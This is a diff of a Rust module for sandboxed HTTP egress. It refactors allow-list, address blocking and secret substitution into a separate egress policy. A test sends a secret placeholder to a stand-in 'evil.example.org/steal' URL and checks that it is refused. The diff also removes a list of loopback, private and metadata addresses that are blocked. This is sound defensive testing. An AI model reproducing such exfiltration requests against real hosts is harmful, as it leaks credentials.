@@ -1,88 +1,32 @@
-//! Filtered outgoing HTTP for connectors that declare the `network` binding.
+//! `wasi:http/outgoing-handler`: the guest's HTTP requests, for connectors
+//! granted the `network` binding.
 //!
-//! Every request the guest makes through `wasi:http/outgoing-handler` comes
-//! here. It must go to an origin the manifest allows (scheme, host, port;
-//! `*.` subdomain wildcards); the deployment may rewrite an origin (to a
-//! self-hosted instance, or a loopback test double); the host resolves the
-//! name itself and refuses loopback, private, link-local, CGNAT and metadata
-//! addresses unless the deployment allows them, then connects to the address
-//! it checked (no second lookup). Forbidden headers, including a smuggled
-//! `Host`, are stripped; secret placeholders in header values are replaced
-//! with the run's values only here, after the origin check; timeouts are
-//! bounded by the run's remaining time; response bodies are capped. Each
-//! request is summarised for the run timeline without header values.
+//! This is transport only. Whether a request may go, where it really goes
+//! and which addresses it may connect to is asked of the run's
+//! [`EgressPolicy`] (`crate::egress`) and applied as answered; no rule of the
+//! policy is repeated here. What this module owns: the request and response
+//! budgets (count, bytes, timeouts cut to the run's remaining time), the
+//! header rules (forbidden headers, `Host` set from the checked origin),
+//! secret placeholder substitution into headers and the body (only after the
+//! policy admitted the origin), TLS, and a summary of every request for the
+//! run timeline without header values or bodies.
 
-use super::SecretSet;
+use super::secrets::SecretSet;
+use crate::egress::{EgressPolicy, Origin, Refusal};
 use bytes::Bytes;
 use http_body_util::BodyExt;
-use std::net::{IpAddr, SocketAddr};
 use std::sync::atomic::{AtomicBool, Ordering};
 use std::sync::{Arc, Mutex};
 use std::time::{Duration, Instant};
+use wasmtime::component::{Linker, ResourceTable};
 use wasmtime_wasi_http::io::TokioIo;
-use wasmtime_wasi_http::{Error as HttpError, RequestOptions, WasiBody, WasiHttpHooks};
+use wasmtime_wasi_http::p2::bindings as wasi_http;
+use wasmtime_wasi_http::{
+    Error as HttpError, RequestOptions, WasiBody, WasiHttp, WasiHttpCtx, WasiHttpCtxView, WasiHttpHooks,
+};
 
-/// An origin: scheme, host (possibly `*.example.com`) and port.
-#[derive(Clone, Debug, PartialEq, Eq)]
-pub struct Origin {
-    pub scheme: String,
-    pub host: String,
-    pub port: u16,
-}
-
-impl Origin {
-    /// Parse `https://host[:port]` (a path is not allowed).
-    pub fn parse(s: &str) -> Option<Origin> {
-        let (scheme, rest) = s.split_once("://")?;
-        let scheme = scheme.to_ascii_lowercase();
-        let default_port = match scheme.as_str() {
-            "https" => 443,
-            "http" => 80,
-            _ => return None,
-        };
-        let rest = rest.trim_end_matches('/');
-        if rest.is_empty() || rest.contains('/') {
-            return None;
-        }
-        let (host, port) = match rest.rsplit_once(':') {
-            Some((h, p)) if !h.ends_with(']') || p.parse::<u16>().is_ok() => (h, p.parse().ok()?),
-            _ => (rest, default_port),
-        };
-        Some(Origin {
-            scheme,
-            host: host.to_ascii_lowercase(),
-            port,
-        })
-    }
-
-    /// Whether `self` (a pattern, maybe `*.`) admits the concrete origin `o`.
-    pub fn admits(&self, o: &Origin) -> bool {
-        if self.scheme != o.scheme || self.port != o.port {
-            return false;
-        }
-        match self.host.strip_prefix("*.") {
-            Some(suffix) => o.host.len() > suffix.len() && o.host.ends_with(&format!(".{suffix}")),
-            None => self.host == o.host,
-        }
-    }
-}
-
-impl std::fmt::Display for Origin {
-    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
-        write!(f, "{}://{}:{}", self.scheme, self.host, self.port)
-    }
-}
-
-/// The deployment's egress settings (not the connector's).
-#[derive(Clone, Debug, Default)]
-pub struct EgressConfig {
-    /// `from` origin → `to` origin: requests for `from` go to `to`.
-    pub rewrites: Vec<(Origin, Origin)>,
-    /// Allow private, loopback, link-local and CGNAT addresses for every request.
-    pub allow_private_addresses: bool,
-    /// Allow loopback addresses only for requests that were rewritten (test doubles).
-    pub allow_loopback_for_rewrites: bool,
-}
+/// The WIT interfaces this capability links (package/interface, no version).
+pub(crate) const INTERFACES: &[&str] = &["wasi:http/outgoing-handler", "wasi:http/types"];
 
 /// Per-run HTTP limits.
 #[derive(Clone, Debug, PartialEq, Eq)]
@@ -127,27 +71,25 @@ pub struct RequestSummary {
     pub secret_used: bool,
 }
 
-/// Counters and summaries shared between the hooks and the run.
+/// Counters and summaries shared between the hooks and the request futures.
 #[derive(Default)]
-pub struct EgressLog {
+struct RequestLog {
+    requests: Vec<RequestSummary>,
+    bytes_in: u64,
+    bytes_out: u64,
+    count: u64,
+}
+
+/// What the run's requests added up to, read when the run is over.
+#[derive(Clone, Debug, Default, PartialEq, Eq)]
+pub(crate) struct HttpUsage {
     pub requests: Vec<RequestSummary>,
     pub bytes_in: u64,
     pub bytes_out: u64,
-    pub count: u64,
 }
 
 /// The largest request body the host forwards (it is buffered to substitute placeholders).
 const MAX_REQUEST_BODY: usize = 8 << 20;
-
-/// The `WasiHttpHooks` of one run.
-pub struct EgressHooks {
-    pub allowed: Vec<Origin>,
-    pub config: Arc<EgressConfig>,
-    pub limits: HttpLimits,
-    pub secrets: SecretSet,
-    pub deadline: Instant,
-    pub log: Arc<Mutex<EgressLog>>,
-}
 
 /// Headers the guest may not set: hop-by-hop headers, `Host` (the host sets
 /// it from the checked origin) and proxy/forwarding headers.
@@ -170,36 +112,71 @@ const FORBIDDEN: &[&str] = &[
     "x-real-ip",
 ];
 
-fn blocked_address(ip: IpAddr) -> bool {
-    match ip {
-        IpAddr::V4(v4) => {
-            let o = v4.octets();
-            v4.is_loopback()
-                || v4.is_private()
-                || v4.is_link_local()
-                || v4.is_unspecified()
-                || v4.is_broadcast()
-                || v4.is_multicast()
-                || o[0] == 0
-                || (o[0] == 100 && (64..128).contains(&o[1]))
-                || (o[0] == 192 && o[1] == 0 && o[2] == 0)
-                || o[0] >= 240
+/// The capability's per-run state: the `wasi:http` context and this run's hooks.
+pub struct HttpState {
+    ctx: WasiHttpCtx,
+    hooks: HttpHooks,
+}
+
+impl HttpState {
+    /// `secrets` are the run's (placeholders become their values); `deadline`
+    /// is the run's wall-clock deadline, which cuts every timeout.
+    pub(crate) fn new(policy: EgressPolicy, limits: HttpLimits, secrets: SecretSet, deadline: Instant) -> Self {
+        HttpState {
+            ctx: WasiHttpCtx::new(),
+            hooks: HttpHooks {
+                policy,
+                limits,
+                secrets,
+                deadline,
+                log: Arc::default(),
+            },
         }
-        IpAddr::V6(v6) => {
-            let s = v6.segments();
-            v6.is_loopback()
-                || v6.is_unspecified()
-                || v6.is_multicast()
-                || (s[0] & 0xfe00) == 0xfc00
-                || (s[0] & 0xffc0) == 0xfe80
-                || v6.to_ipv4_mapped().is_some_and(|v4| blocked_address(IpAddr::V4(v4)))
+    }
+
+    /// The view `wasi:http`'s host implementation works on.
+    pub(crate) fn view<'a>(&'a mut self, table: &'a mut ResourceTable) -> WasiHttpCtxView<'a> {
+        WasiHttpCtxView {
+            ctx: &mut self.ctx,
+            table,
+            hooks: &mut self.hooks,
+        }
+    }
+
+    /// The requests so far (moved out), and the bytes they moved.
+    pub(crate) fn take_usage(&self) -> HttpUsage {
+        let mut log = self.hooks.log.lock().expect("request log");
+        HttpUsage {
+            requests: std::mem::take(&mut log.requests),
+            bytes_in: log.bytes_in,
+            bytes_out: log.bytes_out,
         }
     }
 }
 
-impl EgressHooks {
+/// Link `wasi:http/outgoing-handler` and `wasi:http/types`.
+pub(crate) fn add_to_linker<T: Send + 'static>(
+    linker: &mut Linker<T>,
+    get: fn(&mut T) -> WasiHttpCtxView<'_>,
+) -> wasmtime::Result<()> {
+    let options = wasi_http::LinkOptions::default();
+    wasi_http::http::outgoing_handler::add_to_linker::<T, WasiHttp>(linker, get)?;
+    wasi_http::http::types::add_to_linker::<T, WasiHttp>(linker, &options.into(), get)?;
+    Ok(())
+}
+
+/// The `WasiHttpHooks` of one run.
+struct HttpHooks {
+    policy: EgressPolicy,
+    limits: HttpLimits,
+    secrets: SecretSet,
+    deadline: Instant,
+    log: Arc<Mutex<RequestLog>>,
+}
+
+impl HttpHooks {
     fn record(&self, s: RequestSummary) {
-        let mut log = self.log.lock().expect("egress log");
+        let mut log = self.log.lock().expect("request log");
         log.bytes_out += s.bytes_out;
         log.requests.push(s);
     }
@@ -220,8 +197,18 @@ impl EgressHooks {
     }
 }
 
-/// Replace this run's secret placeholders in a header value; `used` is set
-/// when one was replaced.
+/// The `wasi:http` error code the guest gets for a policy refusal.
+fn refusal_error(r: &Refusal) -> HttpError {
+    match r {
+        Refusal::InvalidUrl | Refusal::OriginNotAllowed(_) => HttpError::HttpRequestDenied,
+        Refusal::AddressBlocked { .. } => HttpError::DestinationIpProhibited,
+        Refusal::DnsFailed { .. } => HttpError::DestinationNotFound,
+        Refusal::DnsTimeout { .. } => HttpError::DnsTimeout,
+    }
+}
+
+/// Replace this run's secret placeholders in text; `used` is set when one was
+/// replaced. Tokens of other runs, or of fields without a value, stay as written.
 fn substitute(secrets: &SecretSet, value: &str, used: &AtomicBool) -> String {
     let mut out = String::with_capacity(value.len());
     let mut rest = value;
@@ -258,7 +245,7 @@ type SendResult = Result<
     HttpError,
 >;
 
-impl WasiHttpHooks for EgressHooks {
+impl WasiHttpHooks for HttpHooks {
     fn is_forbidden_header(&mut self, name: &http::HeaderName) -> bool {
         FORBIDDEN.contains(&name.as_str())
     }
@@ -277,19 +264,12 @@ impl WasiHttpHooks for EgressHooks {
         let method = request.method().to_string();
         let uri = request.uri().clone();
         let path = uri.path().to_owned();
-        let scheme = uri.scheme_str().unwrap_or("https").to_ascii_lowercase();
-        let host = uri
-            .host()
-            .unwrap_or_default()
-            .trim_matches(['[', ']'])
-            .to_ascii_lowercase();
-        let port = uri.port_u16().unwrap_or(if scheme == "https" { 443 } else { 80 });
-        let asked = Origin { scheme, host, port };
+        let asked = Origin::of_uri(&uri);
         let shown = asked.to_string();
 
-        // Limits and the allow-list, before anything leaves the host.
+        // The run's budgets, then the policy, before anything leaves the host.
         let (count, bytes_in) = {
-            let mut log = self.log.lock().expect("egress log");
+            let mut log = self.log.lock().expect("request log");
             log.count += 1;
             (log.count, log.bytes_in)
         };
@@ -307,26 +287,13 @@ impl WasiHttpHooks for EgressHooks {
             );
             return Box::new(async move { Err(e) });
         }
-        if !self.allowed.iter().any(|a| a.admits(&asked)) {
-            let e = self.refuse(
-                &method,
-                &shown,
-                &path,
-                "origin_not_allowed",
-                HttpError::HttpRequestDenied,
-            );
-            return Box::new(async move { Err(e) });
-        }
-        let rewrite = self
-            .config
-            .rewrites
-            .iter()
-            .find(|(from, _)| from.admits(&asked))
-            .map(|(_, to)| to.clone());
-        let target = rewrite.clone().unwrap_or_else(|| asked.clone());
-        let loopback_ok =
-            self.config.allow_private_addresses || (rewrite.is_some() && self.config.allow_loopback_for_rewrites);
-        let private_ok = self.config.allow_private_addresses;
+        let route = match self.policy.route(&asked) {
+            Ok(route) => route,
+            Err(refusal) => {
+                let e = self.refuse(&method, &shown, &path, refusal.reason(), refusal_error(&refusal));
+                return Box::new(async move { Err(e) });
+            }
+        };
 
         // Headers: the guest's forbidden ones were already refused by the
         // hooks; placeholders become values now that the origin is allowed.
@@ -344,15 +311,9 @@ impl WasiHttpHooks for EgressHooks {
                 substituted.append(name.clone(), v);
             }
         }
-        let authority_header =
-            if (target.scheme == "https" && target.port == 443) || (target.scheme == "http" && target.port == 80) {
-                target.host.clone()
-            } else {
-                format!("{}:{}", target.host, target.port)
-            };
         substituted.insert(
             http::header::HOST,
-            http::HeaderValue::from_str(&authority_header).unwrap_or(http::HeaderValue::from_static("invalid")),
+            http::HeaderValue::from_str(&route.target.authority()).unwrap_or(http::HeaderValue::from_static("invalid")),
         );
         *request.headers_mut() = substituted;
         let pq = uri
@@ -384,6 +345,7 @@ impl WasiHttpHooks for EgressHooks {
         let log = self.log.clone();
         let started = Instant::now();
         let secrets = self.secrets.clone();
+        let policy = self.policy.clone();
 
         Box::new(async move {
             let summary = |status: Option<u16>, refused: Option<&str>| RequestSummary {
@@ -398,7 +360,7 @@ impl WasiHttpHooks for EgressHooks {
                 secret_used: secret_used.load(Ordering::Relaxed),
             };
             let fail = |why: &str, e: HttpError| {
-                log.lock().expect("egress log").requests.push(summary(None, Some(why)));
+                log.lock().expect("request log").requests.push(summary(None, Some(why)));
                 e
             };
             // The body, bounded: placeholders in it become values for this allowed origin.
@@ -423,34 +385,19 @@ impl WasiHttpHooks for EgressHooks {
                     .insert(http::header::CONTENT_LENGTH, http::HeaderValue::from(sent.len()));
             }
             let bytes_out = sent.len() as u64;
-            log.lock().expect("egress log").bytes_out += bytes_out;
+            log.lock().expect("request log").bytes_out += bytes_out;
             let request = http::Request::from_parts(
                 head,
                 http_body_util::Full::new(sent)
                     .map_err(|never| match never {})
                     .boxed_unsync(),
             );
-            // Resolve, check every address, connect to a checked one.
-            let addrs: Vec<SocketAddr> = match tokio::time::timeout(
-                connect_timeout,
-                tokio::net::lookup_host((target.host.as_str(), target.port)),
-            )
-            .await
-            {
-                Ok(Ok(a)) => a.collect(),
-                Ok(Err(_)) => return Err(fail("dns_failed", HttpError::DestinationNotFound)),
-                Err(_) => return Err(fail("dns_timeout", HttpError::DnsTimeout)),
+            // Connect only to an address the policy checked (no second lookup).
+            let addr = match policy.resolve(&route, connect_timeout).await {
+                Ok(addrs) => addrs[0],
+                Err(refusal) => return Err(fail(refusal.reason(), refusal_error(&refusal))),
             };
-            let usable: Vec<SocketAddr> = addrs
-                .into_iter()
-                .filter(|a| {
-                    let ip = a.ip();
-                    !blocked_address(ip) || private_ok || (loopback_ok && ip.is_loopback())
-                })
-                .collect();
-            let Some(addr) = usable.first().copied() else {
-                return Err(fail("address_blocked", HttpError::DestinationIpProhibited));
-            };
+            let target = route.target;
             let tcp = match tokio::time::timeout(connect_timeout, tokio::net::TcpStream::connect(addr)).await {
                 Ok(Ok(s)) => s,
                 Ok(Err(e)) if e.kind() == std::io::ErrorKind::ConnectionRefused => {
@@ -528,7 +475,7 @@ impl WasiHttpHooks for EgressHooks {
                 Err(_) => return Err(fail("total_timeout", HttpError::ConnectionReadTimeout)),
             };
             {
-                let mut l = log.lock().expect("egress log");
+                let mut l = log.lock().expect("request log");
                 l.bytes_in += bytes.len() as u64;
                 let mut s = summary(Some(status), None);
                 s.bytes_in = bytes.len() as u64;
@@ -553,50 +500,161 @@ impl<T: tokio::io::AsyncRead + tokio::io::AsyncWrite + Send + Unpin> IoStream fo
 #[cfg(test)]
 mod tests {
     use super::*;
+    use crate::egress::{Allowlist, EgressConfig};
+    use tokio::io::{AsyncReadExt, AsyncWriteExt};
+    use zeroize::Zeroizing;
 
-    #[test]
-    fn origins_parse_with_default_ports_and_match_wildcards() {
-        let api = Origin::parse("https://api.example.com").unwrap();
-        assert_eq!(api.port, 443);
-        let wild = Origin::parse("https://*.example.net").unwrap();
-        assert!(wild.admits(&Origin::parse("https://api.example.net").unwrap()));
-        assert!(
-            !wild.admits(&Origin::parse("https://example.net").unwrap()),
-            "a wildcard needs a subdomain"
-        );
-        assert!(!wild.admits(&Origin::parse("https://evilexample.net").unwrap()));
-        assert!(
-            !api.admits(&Origin::parse("http://api.example.com").unwrap()),
-            "scheme matters"
-        );
-        assert!(
-            !api.admits(&Origin::parse("https://api.example.com:8443").unwrap()),
-            "port matters"
-        );
-        assert!(Origin::parse("https://x.test/path").is_none());
-        assert!(Origin::parse("ftp://x.test").is_none());
-        assert_eq!(Origin::parse("http://127.0.0.1:8080").unwrap().port, 8080);
+    fn secrets() -> SecretSet {
+        SecretSet::new(
+            [("token".to_string(), false)],
+            [("token".to_string(), Zeroizing::new("tok-123".to_string()))],
+        )
     }
 
     #[test]
-    fn loopback_private_link_local_cgnat_and_metadata_addresses_are_blocked() {
-        for ip in [
-            "127.0.0.1",
-            "10.1.2.3",
-            "172.16.0.1",
-            "192.168.1.1",
-            "169.254.169.254",
-            "100.64.0.1",
-            "0.0.0.0",
-            "::1",
-            "fd00::1",
-            "fe80::1",
-            "::ffff:127.0.0.1",
-        ] {
-            assert!(blocked_address(ip.parse().unwrap()), "{ip}");
+    fn placeholders_of_this_run_are_substituted_and_others_kept() {
+        let s = secrets();
+        let used = AtomicBool::new(false);
+        let text = format!(
+            "Bearer {} and {{{{pdpp-secret:other:token}}}} and {{{{pdpp-secret:",
+            s.placeholder("token")
+        );
+        let out = substitute(&s, &text, &used);
+        assert_eq!(out, "Bearer tok-123 and {{pdpp-secret:other:token}} and {{pdpp-secret:");
+        assert!(used.load(Ordering::Relaxed));
+        let unused = AtomicBool::new(false);
+        assert_eq!(substitute(&s, "no token here", &unused), "no token here");
+        assert!(!unused.load(Ordering::Relaxed));
+    }
+
+    /// One HTTP/1.1 exchange on loopback: answers `ok` and hands back what it read.
+    async fn serve_once() -> (u16, tokio::task::JoinHandle<String>) {
+        let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
+        let port = listener.local_addr().unwrap().port();
+        let task = tokio::spawn(async move {
+            let (mut sock, _) = listener.accept().await.unwrap();
+            let mut seen = Vec::new();
+            let mut buf = [0u8; 4096];
+            loop {
+                let n = sock.read(&mut buf).await.unwrap();
+                seen.extend_from_slice(&buf[..n]);
+                let text = String::from_utf8_lossy(&seen).to_string();
+                if let Some(end) = text.find("\r\n\r\n") {
+                    let length = text
+                        .lines()
+                        .find_map(|l| {
+                            l.to_ascii_lowercase()
+                                .strip_prefix("content-length: ")
+                                .map(str::to_owned)
+                        })
+                        .and_then(|v| v.trim().parse::<usize>().ok())
+                        .unwrap_or(0);
+                    if seen.len() >= end + 4 + length || n == 0 {
+                        break;
+                    }
+                }
+            }
+            sock.write_all(b"HTTP/1.1 200 OK\r\ncontent-length: 2\r\n\r\nok")
+                .await
+                .unwrap();
+            String::from_utf8_lossy(&seen).to_string()
+        });
+        (port, task)
+    }
+
+    fn hooks(config: EgressConfig) -> HttpHooks {
+        let state = HttpState::new(
+            EgressPolicy::new(Allowlist::parse(["https://api.example.com"]), Arc::new(config)),
+            HttpLimits::default(),
+            secrets(),
+            Instant::now() + Duration::from_secs(60),
+        );
+        state.hooks
+    }
+
+    fn request(url: &str, auth: &str, body: &str) -> http::Request<WasiBody> {
+        http::Request::builder()
+            .method("POST")
+            .uri(url)
+            .header("authorization", auth)
+            .body(
+                http_body_util::Full::new(Bytes::from(body.to_owned()))
+                    .map_err(|never| match never {})
+                    .boxed_unsync(),
+            )
+            .unwrap()
+    }
+
+    async fn send(hooks: &mut HttpHooks, req: http::Request<WasiBody>) -> Result<u16, HttpError> {
+        let fut = Box::into_pin(hooks.send_request(req, None, Box::new(async { Ok(()) })));
+        fut.await.map(|(resp, _)| resp.status().as_u16())
+    }
+
+    #[tokio::test]
+    async fn a_request_goes_to_the_rewrite_target_with_secrets_substituted_in_headers_and_body() {
+        let (port, server) = serve_once().await;
+        let mut h = hooks(EgressConfig {
+            rewrites: vec![(
+                Origin::parse("https://api.example.com").unwrap(),
+                Origin::parse(&format!("http://127.0.0.1:{port}")).unwrap(),
+            )],
+            allow_loopback_for_rewrites: true,
+            ..EgressConfig::default()
+        });
+        let token = h.secrets.placeholder("token");
+        let req = request(
+            "https://api.example.com/v1/me?x=1",
+            &format!("Bearer {token}"),
+            &format!(r#"{{"token":"{token}"}}"#),
+        );
+        assert_eq!(send(&mut h, req).await.unwrap(), 200);
+        let seen = server.await.unwrap();
+        assert!(seen.starts_with("POST /v1/me?x=1 HTTP/1.1\r\n"), "{seen}");
+        assert!(seen.contains("authorization: Bearer tok-123\r\n"), "{seen}");
+        assert!(seen.contains(&format!("host: 127.0.0.1:{port}\r\n")), "{seen}");
+        assert!(seen.ends_with(r#"{"token":"tok-123"}"#), "{seen}");
+        let usage = HttpState {
+            ctx: WasiHttpCtx::new(),
+            hooks: h,
         }
-        for ip in ["140.82.112.5", "1.1.1.1", "2606:4700::1111"] {
-            assert!(!blocked_address(ip.parse().unwrap()), "{ip}");
+        .take_usage();
+        let s = &usage.requests[0];
+        assert_eq!(
+            s.origin, "https://api.example.com:443",
+            "the timeline shows the declared origin"
+        );
+        assert_eq!((s.status, s.secret_used, s.refused.as_deref()), (Some(200), true, None));
+        assert_eq!(usage.bytes_in, 2);
+    }
+
+    #[tokio::test]
+    async fn a_refused_request_is_summarised_with_the_policy_reason_and_sends_nothing() {
+        let mut h = hooks(EgressConfig::default());
+        let token = h.secrets.placeholder("token");
+        let err = send(&mut h, request("https://evil.example.org/steal", &token, ""))
+            .await
+            .unwrap_err();
+        assert!(matches!(err, HttpError::HttpRequestDenied), "{err}");
+        // Allowed, but it resolves to loopback and nothing rewrote it.
+        let mut h2 = HttpHooks {
+            policy: EgressPolicy::new(Allowlist::parse(["http://127.0.0.1:9"]), Arc::default()),
+            ..h
+        };
+        let err = send(&mut h2, request("http://127.0.0.1:9/", &token, ""))
+            .await
+            .unwrap_err();
+        assert!(matches!(err, HttpError::DestinationIpProhibited), "{err}");
+        let usage = HttpState {
+            ctx: WasiHttpCtx::new(),
+            hooks: h2,
         }
+        .take_usage();
+        let reasons: Vec<_> = usage.requests.iter().map(|r| r.refused.as_deref()).collect();
+        assert_eq!(reasons, [Some("origin_not_allowed"), Some("address_blocked")]);
+        assert!(
+            !usage.requests[0].secret_used,
+            "nothing is substituted for a refused origin"
+        );
+        assert_eq!(usage.requests[0].origin, "https://evil.example.org:443");
     }
 }
